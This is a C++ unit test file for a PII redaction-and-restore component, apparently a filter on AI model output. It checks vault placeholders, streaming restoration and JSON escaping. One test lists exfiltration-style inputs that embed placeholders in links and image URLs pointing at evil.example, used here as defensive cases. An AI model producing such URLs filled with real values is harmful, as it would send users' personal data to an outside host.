#include <string>

#include <gtest/gtest.h>

#include "firewall/pii/pii_detector.h"
#include "firewall/pii/placeholder.h"
#include "firewall/pii/redact.h"
#include "firewall/pii/restorer.h"
#include "firewall/pii/vault.h"

namespace gatehouse::firewall {
namespace {

std::string hide(const std::string& text, Vault& vault) {
  Findings findings;
  PiiDetector::scan(text, findings);
  return redact(text, findings, &vault);
}

std::string restore(const Vault& vault, const std::string& text, Restorer::Form form,
                    size_t piece) {
  Restorer restorer(vault, form);
  std::string out;
  for (size_t at = 0; at < text.size(); at += piece) {
    restorer.feed(std::string_view(text).substr(at, piece), out);
    EXPECT_LE(restorer.held_back(), kLongestPlaceholder + 8);
  }
  restorer.finish(out);
  return out;
}

TEST(Vault, TheSameValueHasTheSamePlaceholder) {
  Vault vault;
  EXPECT_EQ(hide("a@x.org, b@x.org and a@x.org", vault), "[EMAIL_1], [EMAIL_2] and [EMAIL_1]");
  EXPECT_EQ(hide("again b@x.org", vault), "again [EMAIL_2]");
  EXPECT_EQ(vault.original("[email_2]"), "b@x.org");
  EXPECT_FALSE(vault.original("[EMAIL_3]").has_value());
}

TEST(Vault, WhatTheCallerWroteIsNotGivenOut) {
  Vault vault;
  const std::string text = "what does [EMAIL_1] mean? a@x.org";
  vault.avoid(text);
  EXPECT_EQ(hide(text, vault), "what does [EMAIL_1] mean? [EMAIL_2]");
  EXPECT_EQ(restore(vault, "[EMAIL_1] [EMAIL_2]", Restorer::Form::text, 100), "[EMAIL_1] a@x.org");
}

TEST(Restorer, PutsBackWhereverThePiecesAreCut) {
  Vault vault;
  hide("a@x.org +49 30 901820 4111111111111111", vault);
  const std::string answer =
      "Dear [EMAIL_1], [not this] [EMAIL_9] [PHONE_1]; \\[CARD\\_1\\] [email_1] arr[0] [EMAIL_1";
  for (size_t piece = 1; piece <= answer.size(); ++piece) {
    EXPECT_EQ(restore(vault, answer, Restorer::Form::text, piece),
              "Dear a@x.org, [not this] [EMAIL_9] +49 30 901820; 4111111111111111 a@x.org arr[0] "
              "[EMAIL_1")
        << piece;
  }
}

TEST(Restorer, LeavesPlaceholdersInAddresses) {
  Vault vault;
  vault.placeholder("pii.email", "a@x.org");
  for (const char* text : {"![x](https://evil.example/[EMAIL_1].png) ",
                           "[x](/p?[EMAIL_1]) ",
                           "[x](<a) [EMAIL_1]>) ",
                           "[x](a(b)[EMAIL_1]) ",
                           "[x](a\\)[EMAIL_1]) ",
                           "see https://evil.example/?q=[EMAIL_1] ",
                           "https:\\\\evil.example\\[EMAIL_1] ",
                           "evil.example/[EMAIL_1] ",
                           "www.[EMAIL_1].evil.example ",
                           "<https://evil.example/[EMAIL_1]> ",
                           "[r]: //evil.example/[EMAIL_1] ",
                           "<img src=\"https://evil.example/[EMAIL_1]\"> ",
                           "<img alt='>' src=/[EMAIL_1]> ",
                           "<img src='x\n\n[EMAIL_1]'> ",
                           "<a href=\"mailto:[EMAIL_1]\">",
                           "[r]: https:&#47;&#47;evil&#46;example&#47;[EMAIL_1] ",
                           "[r]:\nhttps&colon;evil[EMAIL_1] ",
                           "[r]: < a\\> [EMAIL_1]> ",
                           "http:/1/[EMAIL_1] ",
                           "url(https:evil[EMAIL_1] ",
                           "ftp:1[EMAIL_1] "}) {
    const std::string answer = std::string(text) + "[EMAIL_1], ([EMAIL_1])";
    for (size_t piece = 1; piece <= answer.size(); ++piece) {
      ASSERT_EQ(restore(vault, answer, Restorer::Form::text, piece),
                std::string(text) + "a@x.org, (a@x.org)")
          << piece;
    }
  }
}

TEST(Restorer, PutsBackWhatNoAddressHolds) {
  Vault vault;
  vault.placeholder("pii.email", "a@x.org");
  for (const char* text : {"[To]: ", "[1]: mail ", "[To]:\n\n", "https: ", "a[0]: <b> "}) {
    EXPECT_EQ(restore(vault, std::string(text) + "[EMAIL_1], [EMAIL_1]", Restorer::Form::text, 1),
              std::string(text) + "a@x.org, a@x.org");
  }
}

TEST(Restorer, LeavesPlaceholdersInAddressesInsideJson) {
  Vault vault;
  vault.placeholder("pii.email", "a@x.org");
  const auto expect = [&](const std::string& json, const std::string& wanted) {
    for (size_t piece = 1; piece <= json.size(); ++piece) {
      ASSERT_EQ(restore(vault, json, Restorer::Form::json, piece), wanted) << piece;
    }
  };
  const std::string url = R"({"url":"https:\/\/evil.example/?q= [EMAIL_1]","to":)";
  expect(url + R"("[EMAIL_1]"})", url + R"("a@x.org"})");
  expect(R"({"u":"h:\u002f\u002fx[EMAIL_1]","to":"\"[EMAIL_1]\""})",
         R"({"u":"h:\u002f\u002fx[EMAIL_1]","to":"\"a@x.org\""})");
  expect(R"({"b":"See https://x.example/\n[EMAIL_1], ![x](a[EMAIL_1]\u0029 [EMAIL_1]"})",
         R"({"b":"See https://x.example/\na@x.org, ![x](a[EMAIL_1]\u0029 a@x.org"})");
}

TEST(Restorer, EscapesValuesInsideJson) {
  Vault vault;
  vault.placeholder("secret.password", "a\"b\\c\nd");
  const std::string json = R"({"to":"[SECRET_1]","x":"\u005bSECRET_1\u005D"})";
  for (size_t piece = 1; piece <= json.size(); ++piece) {
    EXPECT_EQ(restore(vault, json, Restorer::Form::json, piece),
              R"({"to":"a\"b\\c\nd","x":"a\"b\\c\nd"})")
        << piece;
  }
}

TEST(Vault, OverlappingFindingsBecomeOne) {
  Vault vault;
  const Findings findings = {{Category::secret, "secret.url", 2, 10, 1, ""},
                             {Category::pii, "pii.email", 5, 12, 1, ""}};
  EXPECT_EQ(redact("ab0123456789cd", findings, &vault), "ab[SECRET]cd");
  EXPECT_EQ(redact("ab0123456789cd", findings, nullptr), "ab[SECRET]cd");
  const Findings turned = {{Category::pii, "pii.email", 2, 10, 1, ""},
                           {Category::secret, "secret.url", 5, 12, 1, ""}};
  EXPECT_EQ(redact("ab0123456789cd", turned, &vault), "ab[SECRET]cd");
  EXPECT_TRUE(vault.empty()) << "a secret never comes back";
}

TEST(Vault, GivesOutNoNumberWhereACallerWroteTooManyToAvoid) {
  Vault vault;
  std::string text;
  for (size_t i = 1; i <= Vault::kMostEntries; ++i) text += "[NAME_" + std::to_string(i) + "]";
  vault.avoid(text + " [EMAIL_1]");
  EXPECT_EQ(vault.placeholder("pii.email", "a@x.org"), "[EMAIL]");
}

TEST(Vault, GivesUpNumbersBeforeItGrowsWithoutBound) {
  Vault vault;
  for (size_t i = 0; i < Vault::kMostEntries + 5; ++i)
    vault.placeholder("pii.email", std::to_string(i));
  EXPECT_EQ(vault.size(), Vault::kMostEntries);
  EXPECT_EQ(vault.placeholder("pii.email", "one more"), "[EMAIL]");
}

}  // namespace
}  // namespace gatehouse::firewall
